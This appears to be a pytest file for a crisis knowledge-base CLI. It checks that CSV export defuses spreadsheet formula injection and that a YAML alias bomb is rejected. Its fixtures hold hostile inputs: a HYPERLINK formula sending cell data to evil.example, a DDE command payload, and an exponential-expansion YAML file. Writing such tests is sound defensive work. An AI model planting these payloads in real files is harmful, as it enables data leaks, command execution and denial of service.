"""``crisisbot kb`` against hostile files: formulas never leave as live spreadsheet cells,
and an exported file imports back unchanged; a YAML alias bomb is refused as bad data."""

from __future__ import annotations

import csv

import pytest

from bot.cli import main

FORMULAS = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "summary": "+cmd|' /c calc'!A1", "worked": "@SUM(1)", "didnt": "-2+3"}


@pytest.fixture
def db(tmp_path, monkeypatch):
    monkeypatch.setenv("CRISISBOT_DATABASE_URL", f"sqlite:///{tmp_path / 'kb.db'}")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _write(path, rows):
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=["id", "title", "crisis_type", "severity", "date",
                                                    "summary", "worked", "didnt", "lessons", "tags"])
        writer.writeheader()
        writer.writerows(rows)


def test_csv_export_neutralises_formulas_and_round_trips(db, capsys):
    _write(db / "in.csv", [{"id": "F-1", "crisis_type": "product_quality", "severity": "A",
                            "date": "2024-01-01", "lessons": "keep calm", "tags": "x", **FORMULAS}])
    assert main(["kb", "import", str(db / "in.csv")]) == 0
    assert main(["kb", "export", "--format", "csv", "-o", str(db / "out.csv")]) == 0
    with (db / "out.csv").open(encoding="utf-8", newline="") as stream:
        row = next(csv.DictReader(stream))
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value  # inert: a spreadsheet shows it as text
    assert main(["kb", "export", "--format", "yaml", "-o", str(db / "before.yaml")]) == 0
    assert main(["kb", "import", str(db / "out.csv")]) == 0  # the same case again, unchanged
    assert main(["kb", "export", "--format", "yaml", "-o", str(db / "after.yaml")]) == 0
    assert (db / "before.yaml").read_text(encoding="utf-8") == (db / "after.yaml").read_text(encoding="utf-8")
    assert FORMULAS["title"] in (db / "after.yaml").read_text(encoding="utf-8")


def test_a_yaml_alias_bomb_is_bad_data_not_a_hang(db, capsys):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefg", "bcdefgh"):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    lines += ["cases:", "  - id: BOMB-1", "    title: *h", "    crisis_type: product_quality",
              "    severity: A", "    date: 2024-01-01", "    summary: *h", "    tags: *h"]
    (db / "bomb.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["kb", "import", str(db / "bomb.yaml")]) != 0
    assert "nothing was imported" in capsys.readouterr().err
